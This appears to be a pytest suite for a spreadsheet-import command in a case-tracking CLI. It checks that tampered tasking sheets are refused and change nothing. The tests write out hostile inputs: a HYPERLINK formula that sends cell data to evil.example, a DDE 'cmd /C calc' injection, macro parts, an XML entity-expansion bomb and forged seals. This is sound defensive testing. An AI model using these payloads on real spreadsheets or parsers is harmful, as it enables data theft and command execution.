"""`ocgboard office return`: a tasking sheet an agency filled in comes back; the chair
previews it and takes it. Each attack is refused in one line and writes nothing."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ocgboard.office import tasking_sheet
from tests.cli.conftest import Runner
from tests.conftest import dump
from tests.office.papers import encrypted, rezip
from tests.office.test_export_papers import make_board

FIRST = 6  # the sheet's first action row: OCG 05/00283 · 2 (overdue), then · 3


@pytest.fixture
def cli(capsys, db_path) -> Runner:
    return Runner(capsys, db_path)


@pytest.fixture
def board(cli) -> dict[str, str]:
    return make_board(cli)


@pytest.fixture
def sheet(cli, board, tmp_path) -> Path:
    out = tmp_path / "dwp.xlsx"
    assert cli("office", "export", "tasking", "DWP", "-o", str(out), "--yes")[0] == 0
    return out


def filled(source: Path, target: Path, **cells) -> Path:
    """The sheet as the agency sends it back: cells such as H6='agreed' set."""
    book = load_workbook(source)
    ws = book[tasking_sheet.TAB]
    for where, value in cells.items():
        ws[where] = value
    book.save(target)
    return target


def trail(cli, action_id: str) -> list[dict]:
    return cli.json("action", "show", action_id)["updates"]


def refused(cli, db_path, path: Path, *words: str) -> str:
    before = dump(db_path)
    code, out, err = cli("office", "return", str(path), "--yes")
    assert code != 0, out
    line = err.strip().splitlines()[-1]
    assert line.startswith("ocgboard: error: "), err
    for word in words:
        assert word in line, line
    assert dump(db_path) == before
    return line


# -- what works ---------------------------------------------------------------------


def test_preview_then_take(cli, board, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", H6="agreed",
                  I6="Benefit review opened on 20 Nov", I7="Lock-up visited")
    before = dump(db_path)
    code, out, err = cli("office", "return", str(back), "--preview")
    assert code == 0, err
    assert "OCG 05/00283 · 2: proposed → agreed; update: 'Benefit review opened" in out
    assert "OCG 05/00283 · 3: stays proposed; update: 'Lock-up visited'" in out
    code, out, err = cli("office", "return", str(back))  # no --yes: preview, nothing taken
    assert code == 2 and "--yes" in err
    assert dump(db_path) == before
    code, out, err = cli("office", "return", str(back), "--yes", author="Chair Mary Lee")
    assert code == 0, err
    assert "2 actions updated" in out
    action = cli.json("action", "show", board["2"])
    assert action["status"] == "agreed"
    last = trail(cli, board["2"])[-1]
    assert last["comment"] == "Benefit review opened on 20 Nov"
    assert last["author"] == "Chair Mary Lee"  # the chair who confirmed it, in the log
    assert cli.json("action", "show", board["3"])["status"] == "proposed"
    history = cli("history")[1]
    assert "Chair Mary Lee moved" in history and "to agreed" in history


def test_a_sheet_with_nothing_filled_in_changes_nothing(cli, sheet, db_path):
    before = dump(db_path)
    code, out, _ = cli("office", "return", str(sheet), "--yes")
    assert code == 0 and "0 actions" in out
    assert dump(db_path) == before


def test_board_moved_the_status_since_the_update_is_still_taken(cli, board, sheet, tmp_path):
    assert cli("action", "update", board["2"], "--status", "in progress",
               "--comment", "Moved at the board")[0] == 0
    back = filled(sheet, tmp_path / "back.xlsx", H6="agreed", I6="Started")
    code, out, err = cli("office", "return", str(back), "--yes")
    assert code == 0, err
    assert "status left in progress" in out
    assert cli.json("action", "show", board["2"])["status"] == "in progress"
    assert trail(cli, board["2"])[-1]["comment"] == "Started"


# -- the file ---------------------------------------------------------------------------


def test_not_an_office_file(cli, sheet, tmp_path, db_path):
    fake = tmp_path / "dwp.xlsx"
    fake.write_bytes(b"%PDF-1.7 not a workbook\n" * 10)
    refused(cli, db_path, fake, "not a Word or Excel file")


def test_empty(cli, sheet, tmp_path, db_path):
    empty = tmp_path / "empty.xlsx"
    empty.write_bytes(b"")
    refused(cli, db_path, empty, "empty")


def test_password_protected(cli, sheet, tmp_path, db_path):
    refused(cli, db_path, encrypted(tmp_path / "locked.xlsx"), "password-protected")


def test_macro_enabled(cli, sheet, tmp_path, db_path):
    vba = rezip(sheet, tmp_path / "vba.xlsx", add={"xl/vbaProject.bin": b"\0" * 64})
    refused(cli, db_path, vba, "macros")
    xlsm = tmp_path / "dwp.xlsm"
    xlsm.write_bytes(sheet.read_bytes())
    refused(cli, db_path, xlsm, "macro-enabled")
    xlm = rezip(sheet, tmp_path / "xlm.xlsx",
                add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    refused(cli, db_path, xlm, "macro sheets")


def test_fifty_megabytes(cli, sheet, tmp_path, db_path):
    big = tmp_path / "big.xlsx"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_STORED) as z:
        with zipfile.ZipFile(sheet) as old:
            for info in old.infolist():
                z.writestr(info.filename, old.read(info.filename))
        z.writestr("xl/media/padding.bin", b"\x01" * (50 * 1024 * 1024))
    refused(cli, db_path, big, "too big")


def test_six_megabytes_is_more_than_a_tasking_sheet(cli, sheet, tmp_path, db_path):
    import os
    padded = rezip(sheet, tmp_path / "padded.xlsx",
                   add={"xl/media/noise.bin": os.urandom(6 * 1024 * 1024)})
    refused(cli, db_path, padded, "a tasking sheet is at most 5 MB")


def test_not_a_tasking_sheet(cli, sheet, tmp_path, db_path):
    from openpyxl import Workbook
    other = tmp_path / "other.xlsx"
    Workbook().save(other)
    refused(cli, db_path, other, "not a tasking sheet")


# -- the sheet --------------------------------------------------------------------------


def test_unexpected_columns(cli, sheet, tmp_path, db_path):
    renamed = filled(sheet, tmp_path / "renamed.xlsx", H5="New status")
    refused(cli, db_path, renamed, "column 8", "its columns were changed")
    extra = filled(sheet, tmp_path / "extra.xlsx", K5="Owner", K6="Police")
    refused(cli, db_path, extra, "unexpected column 'Owner'")


def test_formulas_are_refused_never_evaluated(cli, sheet, tmp_path, db_path):
    link = filled(sheet, tmp_path / "link.xlsx",
                  I6='=HYPERLINK("http://evil.example/?"&A1,"Done")')
    refused(cli, db_path, link, "I6 holds a formula")
    dde = filled(sheet, tmp_path / "dde.xlsx", I7="=cmd|' /C calc'!A0")
    refused(cli, db_path, dde, "I7 holds a formula")
    status = filled(sheet, tmp_path / "status.xlsx", H6='=IF(1,"completed")')
    refused(cli, db_path, status, "H6 holds a formula")


def test_formula_typed_as_text_is_refused(cli, sheet, tmp_path, db_path):
    book = load_workbook(sheet)
    cell = book[tasking_sheet.TAB]["I6"]
    cell.value, cell.data_type = "=cmd|' /C calc'!A0", "s"
    book.save(tmp_path / "text.xlsx")
    refused(cli, db_path, tmp_path / "text.xlsx", "starts with '='")


def test_status_outside_the_vocabulary(cli, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", H6="sorted", I6="All done")
    refused(cli, db_path, back, "row 6 (OCG 05/00283 · 2)", "'sorted' is not an action status")


def test_an_agency_cannot_withdraw(cli, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", H6="withdrawn")
    refused(cli, db_path, back, "only the board withdraws")


def test_a_move_the_vocabulary_does_not_allow(cli, board, tmp_path, db_path):
    assert cli("action", "update", board["2"], "--status", "completed",
               "--comment", "Done")[0] == 0
    assert cli("action", "update", board["2"], "--status", "in progress",
               "--comment", "Reopened")[0] == 0
    out = tmp_path / "dwp.xlsx"
    assert cli("office", "export", "tasking", "DWP", "-o", str(out), "--yes")[0] == 0
    back = filled(out, tmp_path / "back.xlsx", H6="proposed")
    refused(cli, db_path, back, "in progress cannot become proposed")


def test_over_long_update(cli, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", I6="x" * 10_001)
    refused(cli, db_path, back, "row 6", "10,001 characters long; the limit is 10,000")


def test_control_characters_in_an_update(cli, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", I6="ok\x9b31m red")  # a C1 escape: XML carries it
    refused(cli, db_path, back, "control characters")


def test_a_marker_naming_another_agencys_action(cli, board, sheet, tmp_path, db_path):
    marker = load_workbook(sheet)[tasking_sheet.TAB]["J6"].value
    police = marker.split("/")[0] + "/" + board["1"]
    back = filled(sheet, tmp_path / "back.xlsx", J6=police, H6="completed", I6="Done")
    refused(cli, db_path, back, "row 6 names an action the sheet was not issued with")


def test_the_issue_record_changed_to_another_agency(cli, board, sheet, tmp_path, db_path):
    police_id = cli.json("agency", "list")
    police = next(a["id"] for a in police_id if a["name"] == "Police")
    book = load_workbook(sheet)
    issue = book[tasking_sheet.ISSUE_TAB]
    issue["B3"], issue["B4"] = police, "Police"
    issue["A9"] = board["1"]  # its first issued row now Police's action
    ws = book[tasking_sheet.TAB]
    ws["J6"] = ws["J6"].value.split("/")[0] + "/" + board["1"]
    ws["H6"], ws["I6"] = "completed", "Done"
    book.save(tmp_path / "forged.xlsx")
    refused(cli, db_path, tmp_path / "forged.xlsx", "does not match the seal")


def test_a_row_added(cli, sheet, tmp_path, db_path):
    back = filled(sheet, tmp_path / "back.xlsx", A8="OCG 05/00283 · 9", H8="agreed",
                  I8="A new one")
    refused(cli, db_path, back, "row 8 has no marker")


def test_a_row_copied(cli, sheet, tmp_path, db_path):
    marker = load_workbook(sheet)[tasking_sheet.TAB]["J6"].value
    back = filled(sheet, tmp_path / "back.xlsx", J7=marker, I7="twice")
    refused(cli, db_path, back, "repeats the marker")


def test_a_withdrawn_action(cli, board, sheet, tmp_path, db_path):
    assert cli("action", "withdraw", board["2"], "--reason", "Duplicate")[0] == 0
    back = filled(sheet, tmp_path / "back.xlsx", H6="completed", I6="Done")
    refused(cli, db_path, back, "withdrawn by the board")


def test_an_action_given_to_another_agency_since(cli, board, sheet, tmp_path, db_path):
    assert cli("action", "edit", board["3"], "--owner", "Police")[0] == 0
    back = filled(sheet, tmp_path / "back.xlsx", I7="Visited")
    refused(cli, db_path, back, "no longer Department for Work and Pensions' action")


def test_a_sheet_another_laptop_issued(cli, board, sheet, tmp_path, db_path):
    import sqlite3
    conn = sqlite3.connect(db_path)
    conn.execute("UPDATE local_setting SET value = ? WHERE key = ?",
                 ("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVoxMjM0NTY=", "office.tasking_sheet_key"))
    conn.commit()
    conn.close()
    back = filled(sheet, tmp_path / "back.xlsx", I6="Done")
    refused(cli, db_path, back, "does not match the seal")


def test_entity_expansion_in_a_part(cli, sheet, tmp_path, db_path):
    laughs = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>')
    bomb = rezip(sheet, tmp_path / "laughs.xlsx", replace={"xl/worksheets/sheet1.xml": laughs})
    refused(cli, db_path, bomb, "document type declaration")
